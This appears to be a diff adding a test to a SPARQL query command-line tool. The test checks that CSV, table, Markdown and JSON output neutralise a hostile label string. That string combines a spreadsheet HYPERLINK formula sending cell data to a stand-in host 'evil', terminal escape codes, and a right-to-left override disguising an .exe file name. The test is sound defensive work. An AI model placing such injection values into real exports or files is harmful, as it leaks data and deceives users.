@@ -71,3 +71,34 @@ def test_query_deadline_holds_against_a_runaway_regex(tmp_path: Path) -> None:
     assert result.code == 6, result.err
     assert "deadline of 3 s" in result.err
     assert time.monotonic() - started < 60
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil/"&A1)\x1b[2J\x1b]0;pwned\x07\u202egnp.exe'
+
+
+def test_outputs_are_neutralised_for_their_medium(tmp_path: Path) -> None:
+    data = tmp_path / "d.ttl"
+    data.write_text(
+        "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n"
+        f"<urn:x:a> rdfs:label {json_string(HOSTILE_NAME)} .\n"
+    )
+    query = tmp_path / "q.rq"
+    query.write_text(
+        "SELECT ?naam WHERE { <urn:x:a> <http://www.w3.org/2000/01/rdf-schema#label> ?naam }"
+    )
+    csv_out = cli("query", query, "--data", data, "--format", "csv")
+    assert csv_out.code == 0, csv_out.err
+    cell = csv_out.out.splitlines()[1]
+    assert cell.lstrip('"').startswith("'=HYPERLINK")  # a text, never a formula
+    for fmt in ("csv", "table", "md", "json"):
+        shown = cli("query", query, "--data", data, "--format", fmt).out
+        assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown, fmt
+        assert "x1b" in shown or fmt == "json", fmt
+    markdown = cli("query", query, "--data", data, "--format", "md").out
+    assert '\\(\\"' not in markdown and "=HYPERLINK" in markdown
+
+
+def json_string(text: str) -> str:
+    import json
+
+    return json.dumps(text)
